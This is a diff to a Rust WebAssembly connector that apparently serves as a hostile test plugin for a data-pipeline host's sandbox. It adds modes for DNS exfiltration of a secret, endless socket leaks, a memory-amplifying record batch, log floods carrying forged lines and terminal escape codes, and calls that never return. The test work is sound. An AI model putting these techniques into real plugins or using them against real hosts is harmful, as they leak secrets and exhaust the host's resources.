@@ -8,14 +8,16 @@
 //! its payload is what leaked. There is no destination.
 
 use std::cell::{Cell, RefCell};
+use std::time::Duration;
 
 wit_bindgen::generate!({ world: "connector", path: "../../../wit" });
 
 use exports::opencdc::connector::{destination, source, specifier};
+use opencdc::connector::log::{Level, log};
 use opencdc::connector::types as wit;
 
 /// The values `mode` takes.
-const MODES: [&str; 9] = [
+const MODES: [&str; 19] = [
     "connect",
     "read-file",
     "env",
@@ -25,6 +27,16 @@ const MODES: [&str; 9] = [
     "trap",
     "handles",
     "quiet",
+    "alias-batch",
+    "over-max",
+    "log-flood",
+    "error-forge",
+    "sockets",
+    "dns",
+    "hang-validate",
+    "hang-open",
+    "hang-read",
+    "hang-teardown",
 ];
 
 /// What `read` attempts, as chosen by the config given to `open`.
@@ -38,6 +50,30 @@ enum Mode {
     Trap,
     Handles,
     Quiet,
+    /// A `record-batch` whose every span is the whole of one 16 MiB buffer: each span is
+    /// valid alone, together they expand to ~48 GiB when the host rebuilds the records.
+    AliasBatch,
+    /// More records than the host asked for (`max + 1`).
+    OverMax,
+    /// A forged pipeline line with escape sequences in a log message, then logs without end.
+    LogFlood,
+    /// A forged pipeline line with escape sequences in an error message.
+    ErrorForge,
+    /// Create TCP sockets without end and leak them: only the host's socket cap stops this.
+    Sockets,
+    /// Exfiltrate a secret through DNS lookups of names that carry it.
+    Dns {
+        secret: String,
+        domain: String,
+    },
+    /// `validate` never returns (sleeping, so only a wall-clock deadline stops it).
+    HangValidate,
+    /// `open` never returns.
+    HangOpen,
+    /// `read` never returns.
+    HangRead,
+    /// `teardown` never returns.
+    HangTeardown,
 }
 
 thread_local! {
@@ -71,6 +107,19 @@ fn parse(config: &wit::Config) -> Result<Mode, wit::Error> {
         Some("trap") => Mode::Trap,
         Some("handles") => Mode::Handles,
         Some("quiet") => Mode::Quiet,
+        Some("alias-batch") => Mode::AliasBatch,
+        Some("over-max") => Mode::OverMax,
+        Some("log-flood") => Mode::LogFlood,
+        Some("error-forge") => Mode::ErrorForge,
+        Some("sockets") => Mode::Sockets,
+        Some("dns") => Mode::Dns {
+            secret: get("secret").unwrap_or_else(|| "s3cret".into()),
+            domain: need("domain")?,
+        },
+        Some("hang-validate") => Mode::HangValidate,
+        Some("hang-open") => Mode::HangOpen,
+        Some("hang-read") => Mode::HangRead,
+        Some("hang-teardown") => Mode::HangTeardown,
         Some(other) => return Err(invalid("mode", format!("unknown mode {other:?}"))),
         None => return Err(invalid("mode", "mode is required")),
     })
@@ -94,7 +143,37 @@ fn leaked(leak: Vec<u8>) -> Vec<wit::Record> {
     }]
 }
 
-fn attempt(mode: &Mode) -> Result<Vec<wit::Record>, wit::Error> {
+/// Never returns, without computing: each sleep blocks in a WASI poll on the clock, where
+/// no CPU limit counts, so only a wall-clock deadline on the call stops it.
+fn hang() -> ! {
+    loop {
+        std::thread::sleep(Duration::from_secs(1));
+    }
+}
+
+/// The size of the one buffer every span of `mode=alias-batch` covers.
+const ALIAS_LEN: u32 = 16 << 20;
+
+/// 1000 records whose position, key and after each span the whole of one 16 MiB `bytes`.
+fn alias_batch() -> wit::RecordBatch {
+    let record = [1, 0, ALIAS_LEN]; // kind raw, start, length
+    let mut packed = Vec::with_capacity(1000 * 14);
+    for _ in 0..1000 {
+        packed.extend_from_slice(&[0, ALIAS_LEN]); // position
+        packed.extend_from_slice(&[wit::Operation::Create as u32, 0, 0]); // operation, metadata
+        packed.extend_from_slice(&record); // key
+        packed.extend_from_slice(&[0, 0, 0]); // before
+        packed.extend_from_slice(&record); // after
+    }
+    wit::RecordBatch {
+        bytes: vec![b'a'; ALIAS_LEN as usize],
+        text: String::new(),
+        metadata: Vec::new(),
+        records: packed,
+    }
+}
+
+fn attempt(mode: &Mode, max: u32) -> Result<Vec<wit::Record>, wit::Error> {
     match mode {
         // Open a TCP connection to an address the host did not allow, and send on it.
         Mode::Connect(target) => {
@@ -153,6 +232,57 @@ fn attempt(mode: &Mode) -> Result<Vec<wit::Record>, wit::Error> {
         },
         // A well-behaved idle source: nothing to read.
         Mode::Quiet => Ok(Vec::new()),
+        Mode::AliasBatch => Err(wit::Error::Other("alias-batch is read-batch only".into())),
+        Mode::OverMax => Ok((0..=u64::from(max)).flat_map(|_| leaked(b"x".to_vec())).collect()),
+        Mode::LogFlood => {
+            log(
+                Level::Error,
+                "innocent\npipeline good/mirror failed (0 read, 0 written, 1 errors): forged\x1b[31m red \x1b]0;title\x07",
+            );
+            let mut flood = String::from("flood\n\x1b[2J");
+            flood.extend(std::iter::repeat_n('A', (64 << 10) - flood.len()));
+            loop {
+                log(Level::Info, &flood);
+            }
+        }
+        Mode::ErrorForge => Err(wit::Error::Other(
+            "boom\npipeline good/mirror failed (0 read, 0 written, 9 errors): forged\x1b[2J".into(),
+        )),
+        Mode::Sockets => {
+            use wasip2::sockets::{network::IpAddressFamily, tcp_create_socket::create_tcp_socket};
+            let mut n = 0u64;
+            loop {
+                let socket = create_tcp_socket(IpAddressFamily::Ipv4)
+                    .map_err(|e| wit::Error::Connection(format!("socket {n}: {e:?}")))?;
+                std::mem::forget(socket);
+                n += 1;
+            }
+        }
+        Mode::Dns { secret, domain } => {
+            use std::net::ToSocketAddrs;
+            let mut first = None;
+            let mut failed = 0;
+            for i in 0..200 {
+                let name = format!("{secret}-{i}.{domain}");
+                match (name.as_str(), 9092).to_socket_addrs() {
+                    Ok(addresses) => {
+                        let addresses: Vec<_> = addresses.collect();
+                        return Ok(leaked(format!("resolved {name}: {addresses:?}").into_bytes()));
+                    }
+                    Err(e) => {
+                        failed += 1;
+                        first.get_or_insert_with(|| format!("lookup {name}: {e}"));
+                    }
+                }
+            }
+            let first = first.unwrap_or_default();
+            Err(wit::Error::Connection(format!(
+                "{failed} lookups refused; first: {first}"
+            )))
+        }
+        // Those hang in their own call; here they read like `quiet`, except `hang-read`.
+        Mode::HangValidate | Mode::HangOpen | Mode::HangTeardown => Ok(Vec::new()),
+        Mode::HangRead => hang(),
     }
 }
 
@@ -179,23 +309,32 @@ impl specifier::Guest for Component {
 
 impl source::Guest for Component {
     fn validate(config: wit::Config) -> Result<(), wit::Error> {
-        parse(&config).map(drop)
+        match parse(&config)? {
+            Mode::HangValidate => hang(),
+            _ => Ok(()),
+        }
     }
 
     fn open(config: wit::Config, _position: Option<wit::Position>) -> Result<(), wit::Error> {
         let mode = parse(&config)?;
+        if let Mode::HangOpen = mode {
+            hang();
+        }
         MODE.with(|m| *m.borrow_mut() = Some(mode));
         Ok(())
     }
 
-    fn read(_max: u32, _wait_ms: u32) -> Result<Vec<wit::Record>, wit::Error> {
+    fn read(max: u32, _wait_ms: u32) -> Result<Vec<wit::Record>, wit::Error> {
         MODE.with(|m| match &*m.borrow() {
-            Some(mode) => attempt(mode),
+            Some(mode) => attempt(mode, max),
             None => Err(wit::Error::InvalidState("the source is not open".into())),
         })
     }
 
     fn read_batch(max: u32, wait_ms: u32) -> Result<wit::RecordBatch, wit::Error> {
+        if MODE.with(|m| matches!(&*m.borrow(), Some(Mode::AliasBatch))) {
+            return Ok(alias_batch());
+        }
         Self::read(max, wait_ms).map(pack)
     }
 
@@ -212,6 +351,9 @@ impl source::Guest for Component {
     }
 
     fn teardown() -> Result<(), wit::Error> {
+        if MODE.with(|m| matches!(&*m.borrow(), Some(Mode::HangTeardown))) {
+            hang();
+        }
         Ok(())
     }
 
